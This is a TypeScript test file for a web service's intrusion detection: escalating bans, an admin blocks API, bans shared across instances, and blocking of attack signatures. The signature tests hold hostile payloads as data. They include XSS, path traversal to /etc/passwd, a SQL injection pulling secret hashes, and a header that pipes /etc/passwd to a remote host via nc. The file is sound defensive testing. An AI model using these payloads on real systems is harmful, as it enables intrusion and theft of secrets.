import { randomUUID } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { createManualClock } from '../src/clock.js';
import { loadConfig } from '../src/config.js';
import { buildApp } from '../src/http/app.js';
import { createServices } from '../src/services.js';
import { createRedisStore } from '../src/store/state/redis-store.js';
import { openTestDatabase, TEST_REDIS_URL } from './helpers/database.js';
import { createTestApp, TEST_NOW } from './helpers/services.js';

const HOUR = 3_600_000;
const IDS_ENV = { IDS_BAN_THRESHOLD: '20', IDS_SCORE_HALF_LIFE_MS: '600000' };

/** Five failed API-key checks from one address: 5 × 4 points = 20, the threshold. */
async function misbehave(app: Awaited<ReturnType<typeof createTestApp>>['app'], ip: string) {
  for (let i = 0; i < 5; i++) {
    await app.inject({
      method: 'GET',
      url: '/api/auth/me',
      remoteAddress: ip,
      headers: { 'x-api-key': `rmp_${'x'.repeat(50)}` },
    });
  }
}

describe('violation ledger and escalating bans', () => {
  it('bans an address whose denials cross the threshold, before any other work, with the time left', async () => {
    const clock = createManualClock(TEST_NOW);
    const t = await createTestApp({ clock, env: IDS_ENV });
    try {
      await misbehave(t.app, '198.51.100.7');
      const refused = await t.app.inject({ method: 'GET', url: '/health', remoteAddress: '198.51.100.7' });
      expect(refused.statusCode).toBe(403);
      expect(refused.json()).toMatchObject({ error: 'ip_blocked' });
      expect(refused.headers['retry-after']).toBe('3600');
      expect(refused.headers['content-security-policy']).toBeDefined();
      expect(
        (await t.app.inject({ method: 'GET', url: '/health', remoteAddress: '198.51.100.8' })).statusCode,
      ).toBe(200);
      const [event] = await t.services.store.securityEvents.list({ type: 'ip_banned', limit: 1 });
      expect(event?.detail).toMatchObject({ subject: '198.51.100.7', source: 'ledger', duration_ms: HOUR });
    } finally {
      await t.close();
    }
  });

  it('lets points fade: the same denials spread over hours never ban', async () => {
    const clock = createManualClock(TEST_NOW);
    const t = await createTestApp({ clock, env: IDS_ENV });
    try {
      for (let i = 0; i < 10; i++) {
        // Three forged keys (12 points) an hour; a score halves every ten minutes.
        for (let j = 0; j < 3; j++) {
          await t.app.inject({
            method: 'GET',
            url: '/api/auth/me',
            remoteAddress: '198.51.100.9',
            headers: { 'x-api-key': 'rmp_forged' },
          });
        }
        clock.advance(HOUR);
      }
      expect(
        (await t.app.inject({ method: 'GET', url: '/health', remoteAddress: '198.51.100.9' })).statusCode,
      ).toBe(200);
      expect(await t.services.store.securityEvents.list({ type: 'ip_banned' })).toEqual([]);
    } finally {
      await t.close();
    }
  });

  it('doubles each repeat ban within 24 hours, up to 7 days, and each ban ends on its own at exactly its end', async () => {
    const clock = createManualClock(TEST_NOW);
    const t = await createTestApp({ clock, env: IDS_ENV });
    const ip = '198.51.100.10';
    const health = () => t.app.inject({ method: 'GET', url: '/health', remoteAddress: ip });
    try {
      const durations: number[] = [];
      for (let round = 0; round < 9; round++) {
        await t.services.bans.ban({
          subjectType: 'ip',
          subject: ip,
          reason: 'test',
          source: 'ledger',
          actor: null,
        });
        const [ban] = await t.services.bans.listActive();
        const ms = (ban?.expiresAt.getTime() ?? 0) - clock.now().getTime();
        durations.push(ms / HOUR);
        clock.advance(ms - 1);
        expect((await health()).statusCode).toBe(403);
        clock.advance(1);
        expect((await health()).statusCode).toBe(200);
      }
      expect(durations).toEqual([1, 2, 4, 8, 16, 32, 64, 128, 168]);
    } finally {
      await t.close();
    }
  });

  it('never bans an allow-listed address', async () => {
    const t = await createTestApp({ env: { ...IDS_ENV, IP_ALLOW_LIST: '127.0.0.1,198.51.100.0/24' } });
    try {
      await misbehave(t.app, '198.51.100.11');
      expect(
        (await t.app.inject({ method: 'GET', url: '/health', remoteAddress: '198.51.100.11' })).statusCode,
      ).toBe(200);
      expect(await t.services.store.securityEvents.list({ type: 'ban_skipped' })).toHaveLength(1);
    } finally {
      await t.close();
    }
  });

  it('refuses a banned user with any key or session, whatever the address', async () => {
    const t = await createTestApp({ env: IDS_ENV });
    try {
      const user = await t.createUser('user');
      await t.services.bans.ban({
        subjectType: 'user',
        subject: user.userId,
        reason: 'test',
        source: 'admin',
        actor: null,
        durationMs: HOUR,
      });
      const refused = await t.app.inject({
        method: 'GET',
        url: '/api/auth/me',
        headers: user.headers,
        remoteAddress: '203.0.113.50',
      });
      expect(refused.json()).toMatchObject({ error: 'user_blocked' });
    } finally {
      await t.close();
    }
  });

  it('keeps bans across a restart (they live in the database)', async () => {
    const handle = await openTestDatabase('sqlite');
    const clock = createManualClock(TEST_NOW);
    const config = loadConfig({ LOG_LEVEL: 'silent', TIMEZONE: 'UTC', ...IDS_ENV });
    try {
      const first = await createServices(config, { clock, database: { ...handle, close: async () => {} } });
      await first.bans.ban({
        subjectType: 'ip',
        subject: '203.0.113.0/24',
        reason: 'test',
        source: 'cli',
        actor: null,
        durationMs: HOUR,
      });
      await first.close();
      const second = await createServices(config, { clock, database: { ...handle, close: async () => {} } });
      const app = await buildApp(second, { logger: false });
      const refused = await app.inject({ method: 'GET', url: '/health', remoteAddress: '203.0.113.77' });
      expect(refused.statusCode).toBe(403);
      await app.close();
      await second.close();
    } finally {
      await handle.close();
    }
  });
});

describe('admin blocks API', () => {
  it('bans and unbans by address or CIDR, lists time left and history, and audits each action', async () => {
    const clock = createManualClock(TEST_NOW);
    const t = await createTestApp({ clock, env: IDS_ENV });
    try {
      const admin = await t.createUser('admin');
      const created = await t.app.inject({
        method: 'POST',
        url: '/api/admin/blocks',
        headers: admin.headers,
        payload: { ip: '::ffff:192.0.2.0/120', duration_minutes: 30, reason: 'scanner' },
      });
      expect(created.statusCode).toBe(400);
      const block = await t.app.inject({
        method: 'POST',
        url: '/api/admin/blocks',
        headers: admin.headers,
        payload: { ip: '192.0.2.0/24', duration_minutes: 30, reason: 'scanner' },
      });
      expect(block.statusCode).toBe(201);
      expect(block.json().block).toMatchObject({
        subject: '192.0.2.0/24',
        active: true,
        remaining_seconds: 1800,
      });
      expect(
        (await t.app.inject({ method: 'GET', url: '/health', remoteAddress: '::ffff:192.0.2.9' })).statusCode,
      ).toBe(403);
      clock.advance(600_000);
      const listed = await t.app.inject({ method: 'GET', url: '/api/admin/blocks', headers: admin.headers });
      expect(listed.json().active[0]).toMatchObject({ remaining_seconds: 1200 });
      const lifted = await t.app.inject({
        method: 'DELETE',
        url: `/api/admin/blocks/${block.json().block.id}`,
        headers: admin.headers,
      });
      expect(lifted.statusCode).toBe(200);
      expect(
        (await t.app.inject({ method: 'GET', url: '/health', remoteAddress: '192.0.2.9' })).statusCode,
      ).toBe(200);
      const history = await t.app.inject({ method: 'GET', url: '/api/admin/blocks', headers: admin.headers });
      expect(history.json()).toMatchObject({
        active: [],
        history: [{ subject: '192.0.2.0/24', active: false }],
      });
      const types = (await t.services.store.securityEvents.list({ limit: 20 })).map((e) => e.type);
      expect(types).toEqual(expect.arrayContaining(['ip_banned', 'ip_unbanned']));
    } finally {
      await t.close();
    }
  });
});

describe('two instances sharing Redis and PostgreSQL', () => {
  it('refuses on one instance an address banned on the other, within a second', async () => {
    const handle = await openTestDatabase('postgres');
    const config = loadConfig({ LOG_LEVEL: 'silent', TIMEZONE: 'UTC', ...IDS_ENV });
    const prefix = randomUUID();
    const stateA = await createRedisStore({ url: TEST_REDIS_URL, commandTimeoutMs: 1000 });
    const stateB = await createRedisStore({ url: TEST_REDIS_URL, commandTimeoutMs: 1000 });
    const shared = { ...handle, close: async () => {} };
    const a = await createServices(config, {
      clock: createManualClock(TEST_NOW),
      database: shared,
      state: stateA,
    });
    const b = await createServices(config, {
      clock: createManualClock(TEST_NOW),
      database: shared,
      state: stateB,
    });
    const appB = await buildApp(b, { logger: false });
    try {
      const ip = `198.18.${Math.floor(Math.random() * 250)}.${Math.floor(Math.random() * 250)}`;
      expect((await appB.inject({ method: 'GET', url: '/health', remoteAddress: ip })).statusCode).toBe(200);
      await a.bans.ban({
        subjectType: 'ip',
        subject: ip,
        reason: `shared ${prefix}`,
        source: 'admin',
        actor: null,
        durationMs: HOUR,
      });
      const started = Date.now();
      let status = 200;
      while (status !== 403 && Date.now() - started < 1000) {
        await new Promise((r) => setTimeout(r, 20));
        status = (await appB.inject({ method: 'GET', url: '/health', remoteAddress: ip })).statusCode;
      }
      expect(status).toBe(403);
      expect(Date.now() - started).toBeLessThan(1000);
    } finally {
      await appB.close();
      await a.close();
      await b.close();
      await handle.close();
    }
  });
});

describe('attack signatures in the pipeline', () => {
  it.each([
    ['XSS in the query', 'GET', '/api/agents?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', undefined, 'xss', {}],
    [
      'double-encoded traversal in the path',
      'GET',
      '/%252e%252e%252f%252e%252e%252fetc%252fpasswd',
      undefined,
      'traversal',
      {},
    ],
    [
      'SQL injection in a JSON field',
      'POST',
      '/api/auth/keys',
      { name: "x' OR 1=1 UNION SELECT secret_hash FROM api_keys--" },
      'sqli',
      {},
    ],
    [
      'command injection in a header',
      'GET',
      '/api/agents',
      undefined,
      'cmdi',
      { 'x-custom': '; cat /etc/passwd | nc 203.0.113.1 4444' },
    ],
  ])(
    'blocks %s with 403 request_blocked and an attack_detected event',
    async (_name, method, url, payload, klass, extraHeaders) => {
      const t = await createTestApp();
      try {
        const user = await t.createUser('user');
        const response = await t.app.inject({
          method: method as 'GET',
          url,
          headers: { ...user.headers, ...extraHeaders },
          ...(payload ? { payload } : {}),
        });
        expect(response.statusCode).toBe(403);
        expect(response.json().error).toBe('request_blocked');
        const [event] = await t.services.store.securityEvents.list({ type: 'attack_detected', limit: 1 });
        expect(event?.detail).toMatchObject({ verdict: 'block' });
        expect(event?.detail.classes).toContain(klass);
        expect(JSON.stringify(event)).not.toMatch(/secret_hash|etc\/passwd|alert\(1\)|203\.0\.113\.1 4444/);
      } finally {
        await t.close();
      }
    },
  );

  it('scores but never blocks a chat message that quotes an attack', async () => {
    const t = await createTestApp();
    try {
      const user = await t.createUser('user');
      const response = await t.app.inject({
        method: 'POST',
        url: '/api/chat',
        headers: user.headers,
        payload: { message: "Why is ' OR 1=1; DROP TABLE users;-- dangerous? <script>alert(1)</script>" },
      });
      expect(response.statusCode).toBe(200);
      const [event] = await t.services.store.securityEvents.list({ type: 'attack_detected', limit: 1 });
      expect(event?.detail).toMatchObject({ verdict: 'flag', part: 'body' });
    } finally {
      await t.close();
    }
  });
});
